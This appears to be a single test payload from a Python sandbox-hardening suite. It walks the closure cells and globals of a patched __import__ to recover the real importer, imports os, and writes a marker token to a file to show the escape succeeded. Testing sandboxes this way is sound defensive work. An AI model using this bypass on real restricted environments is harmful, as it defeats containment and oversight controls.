# id: intro-closure-cell-contents
# category: introspection
# description: read a defence's closure cells (__closure__[i].cell_contents) and its globals to reach the real importer
# source: function.__closure__ and cell objects (CPython data model)
# detect: token (the token lands in OUT)
b = __builtins__ if isinstance(__builtins__, dict) else __builtins__.__dict__
seen, todo, importer = set(), [b['__import__']], None
while todo and importer is None:
    f = todo.pop()
    if id(f) in seen:
        continue
    seen.add(id(f))
    if type(f) is type(len) and getattr(f, '__name__', '') == '__import__':
        importer = f
        break
    for cell in getattr(f, '__closure__', None) or ():
        todo.append(cell.cell_contents)
    todo.extend(v for v in list(getattr(f, '__globals__', {}).values()) if callable(v))
os_module = importer('os')

fd = os_module.open(OUT, os_module.O_WRONLY | os_module.O_CREAT | os_module.O_TRUNC, 0o644)
os_module.write(fd, TOKEN.encode())
os_module.close(fd)
